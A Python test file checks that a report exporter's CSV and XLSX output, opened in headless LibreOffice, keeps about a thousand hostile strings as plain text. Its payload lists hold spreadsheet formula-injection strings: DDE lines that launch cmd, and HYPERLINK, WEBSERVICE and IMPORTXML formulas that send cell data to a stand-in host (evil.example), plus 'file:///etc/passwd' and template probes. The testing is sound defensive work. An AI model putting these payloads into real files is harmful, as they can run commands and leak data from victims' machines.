"""A thousand hostile texts in every text column of CSV and XLSX, as a real spreadsheet opens them: LibreOffice."""

from __future__ import annotations

import re
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from itertools import islice, product
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from candidates.reports.cells import plain
from candidates.reports.columns import Column, Row
from tests.reports.samples import Sample, document, written

pytestmark = [pytest.mark.slow, pytest.mark.requires_part("soffice")]

COLUMNS = 5
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=WEBSERVICE(\"http://evil.example\")", "{=1+1}",
    "=IMPORTXML(CONCAT(\"http://evil.example\"),\"//a\")", "=2+5+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1", "'+44", "of:=1+1", "=A1",
    "=\"a\"", "=1e5", "+442079460018", "-", "=", "@", "+", "--1", "=-1", "=ｃｍｄ|'/C calc'!A0",
)  # fmt: skip
OTHERS = (
    "1e5", "007", "00", "1.5", "1,5", "1,234.50", "12%", "€5", "$5", "3/4", "1/2/2026", "2026-12-03", "10:00", "TRUE",
    "false", "WAHR", "1E+400", "0x1F", "١٢٣", "'tis", "'", "\"", "\"\"", "a;b", "a,b", "a;=1+1", "a,=1+1", "a\t=1",
    "a|b", "# no", "#REF!", "Err:502", "<r>rich</r>", "&amp;", "<b>&</b>", "]]>", "_x0041_", "_x005F_x0041_",
    "http://evil.example", "mailto:a@b.example", "\\", "\\n", "%0A=1", "ä" * 300, "שלום", "مرحبا =1", "\u202e=1+1",
    "👩‍👩‍👧 🦜", "e\u0301", "Ωmega", "李明", "NULL", "nan", "inf", "\"=1+1\"", "\";=1+1;\"", "a\n=1+1", "a\r\n=1+1",
    "a\r=1", "\u00a0", "--", "==", "=\n=", "C:\\x.xls", "file:///etc/passwd", "{{7*7}}", "${7*7}", "<script>",
    "\x1b[31m",     "x" * 32_000, "=" + "y" * 32_000,
)  # fmt: skip
BEFORE = (
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u200b",
    "\ufeff",
    "\u2060",
    "\u00a0",
    "\x0b",
    "\x01",
    "\u3000",
    "\u200e ",
    ";",
)
AFTER = ("", " ", "\n", "\t", "é")


def hostile() -> list[str]:
    """A thousand texts, no two of them alike."""
    together: Iterator[str] = (f"{lead}{text}{end}" for end, lead, text in product(AFTER, BEFORE, FORMULAS))
    texts = list(dict.fromkeys([*OTHERS, *(f"{lead}{text}" for lead, text in product(BEFORE[1:5], OTHERS[:60]))]))
    return [*texts, *islice((text for text in together if text not in texts), 1_000 - len(texts))]


TEXTS = hostile()
TABLE = [Column(f"text_{number}", f"Text {number}", on_paper=1) for number in range(COLUMNS)]
# Each text in each column, beside others
ROWS: list[Row] = [[TEXTS[(row + 7 * column) % len(TEXTS)] for column in range(COLUMNS)] for row in range(len(TEXTS))]
# Commas, quotes, UTF-8, from the first line; half of the columns are texts, the others whatever they look like
AS_TEXT, GUESSED = 2, 1


def opened(folder: Path, name: str, data: bytes, *options: str) -> list[list[Any]]:
    """Return the cells that LibreOffice holds once it has opened a file: as it saves them again."""
    (folder / name).write_bytes(data)
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    out = folder / "out"
    saved = ["--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), str(folder / name)]
    subprocess.run(["soffice", profile, "--headless", *options, *saved], check=True, capture_output=True, timeout=120)
    book = openpyxl.load_workbook(out / f"{Path(name).stem}.xlsx")
    return [list(row) for row in book.worksheets[0].iter_rows()]


def texts_of(cells: list[Any]) -> list[str]:
    return ["" if cell.value is None else str(cell.value) for cell in cells]


def kinds_of(rows: list[list[Any]]) -> set[str]:
    return {cell.data_type for row in rows for cell in row if cell.value is not None}


def read(text: str) -> str:
    """Return a text without what is left of the escapes of a workbook, and with one kind of line end."""
    control = re.sub("_x00([01][0-9a-fA-F])_", lambda found: chr(int(found[1], 16)), text)
    return re.sub("\r\n?", "\n", control).replace("x005F_", "")  # which openpyxl drops


def test_a_workbook_opens_with_every_text_unchanged_and_no_formula(tmp_path: Path) -> None:
    head, *rows = opened(tmp_path, "hostile.xlsx", written("xlsx", Sample(ROWS, TABLE)))
    assert texts_of(head) == [column.title for column in TABLE]
    assert kinds_of(rows) == {"s"}
    assert len(rows) == len(ROWS)
    for cells, row in zip(rows, ROWS, strict=True):
        assert [read(text) for text in texts_of(cells)] == [read(str(text)) for text in row]


def test_a_csv_opens_with_every_text_unchanged_and_no_formula_whatever_is_guessed(tmp_path: Path) -> None:
    twice = [*TABLE, *(replace(column, key=f"guessed_{column.key}") for column in TABLE)]
    types = "/".join(f"{n}/{AS_TEXT if n <= COLUMNS else GUESSED}" for n in range(1, len(twice) + 1))
    data = written("csv", Sample([[*row, *row] for row in ROWS], twice))
    cells = opened(tmp_path, "hostile.csv", data, f"--infilter=CSV:44,34,76,1,{types},0,false,true")
    assert texts_of(cells[0])[0] == f"# {document(Sample()).about.lines[0]}"
    rows = cells[5:]
    assert len(rows) == len(ROWS)
    assert "f" not in kinds_of(rows)
    assert kinds_of([row[:COLUMNS] for row in rows]) == {"s"}
    for found, row in zip(rows, ROWS, strict=True):
        assert [plain(read(text)) for text in texts_of(found[:COLUMNS])] == [read(str(text)) for text in row]
